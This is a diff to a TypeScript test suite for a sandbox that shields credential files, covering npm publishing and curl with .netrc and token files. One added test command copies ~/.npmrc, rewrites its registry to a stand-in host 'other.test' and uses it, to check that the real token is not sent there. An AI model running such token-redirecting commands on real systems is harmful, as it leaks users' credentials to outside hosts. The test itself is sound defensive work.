@@ -291,30 +291,41 @@ describe.skipIf(bwrap === null)("a credential in a file", () => {
     const outputs = await run({
       hosts,
       home: { ".npmrc": `registry=${registry}/\n//npm.test:${hosts.port}/:_authToken=${npmToken}\n` },
-      commands: [`npm publish --loglevel error 2>&1`, "cat ~/.npmrc", "npm whoami 2>&1; true"],
+      commands: [
+        "npm publish --loglevel error 2>&1",
+        "cat ~/.npmrc",
+        // A project that wants the token for its own registry.
+        `cp ~/.npmrc stolen; sed -i "s/npm.test/other.test/" stolen; cp stolen .npmrc; npm view pkg --fetch-retries 0 2>&1; cat .npmrc`,
+      ],
     })
+    expect(at(hosts, "other.test")).toContain("authorization: Bearer npm_")
+    expect(secretsIn(at(hosts, "other.test"))).toEqual([])
     expect(outputs[0]).toBe("+ pkg@1.0.0")
     expect(hosts.seen().map(({ line }) => line)).toContain("PUT /pkg")
     expect(secretsIn(outputs.join("\n"))).toEqual([])
     expect(at(hosts, "npm.test")).toContain(`authorization: Bearer ${npmToken}`)
   })
 
-  test("of curl is read by it; a user's own file with one token works as well, by its hosts", async () => {
-    using hosts = await openHosts(password)
-    const url = `https://api.test:${hosts.port}`
-    const outputs = await run({
-      hosts,
-      sandbox: {
-        credentials: [
-          { file: "~/.netrc", hosts: [`api.test:${hosts.port}`] },
-          { file: ".config/foo/token", hosts: [`api.test:${hosts.port}`] },
-        ],
-      },
-      home: { ".netrc": `machine api.test\nlogin me\npassword ${password}\n`, ".config/foo/token": `${password}\n` },
-      commands: [`curl -sS -n ${url}/me`, `curl -sS -H "Authorization: Bearer $(cat ~/.config/foo/token)" ${url}/me`],
-    })
-    expect(outputs).toEqual(['{"known":true}', '{"known":true}'])
-  })
+  test.each([["helper"], ["bubblewrap"]] as const)(
+    "is read by curl, and so is one with a single token, in a sandbox by the %s",
+    async (maker) => {
+      using hosts = await openHosts(password)
+      const url = `https://api.test:${hosts.port}`
+      const outputs = await run({
+        hosts,
+        ...(maker === "bubblewrap" && { maker }),
+        sandbox: {
+          credentials: [
+            { file: "~/.netrc", hosts: [`api.test:${hosts.port}`] },
+            { file: ".config/foo/token", hosts: [`api.test:${hosts.port}`] },
+          ],
+        },
+        home: { ".netrc": `machine api.test\nlogin me\npassword ${password}\n`, ".config/foo/token": `${password}\n` },
+        commands: [`curl -sS -n ${url}/me`, `curl -sS -H "Authorization: Bearer $(cat ~/.config/foo/token)" ${url}/me`],
+      })
+      expect(outputs).toEqual(['{"known":true}', '{"known":true}'])
+    },
+  )
 
   test("stays hidden if it is not understood, or if a rule denies it", async () => {
     using hosts = await openHosts(password)
